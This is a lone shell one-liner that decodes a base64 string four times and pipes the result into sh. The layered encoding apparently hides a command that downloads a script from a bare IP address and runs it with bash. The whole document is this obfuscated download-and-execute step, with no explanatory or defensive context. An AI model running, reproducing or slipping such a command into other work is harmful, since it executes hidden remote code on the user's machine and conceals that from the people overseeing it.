echo VjFST1YyVlhTa1JSV0ZKcVpWVktkbHBGYUZOa01EbHdUMGhhVG1GclJqWlVSM0JDWkZVeFZWSlljRTFoYlU0eVdsVk5NV1Z0UmtSUmFtaEtVakJ3YjFsNlNtNVFVVDA5 | base64 -d | base64 -d | base64 -d | base64 -d | sh
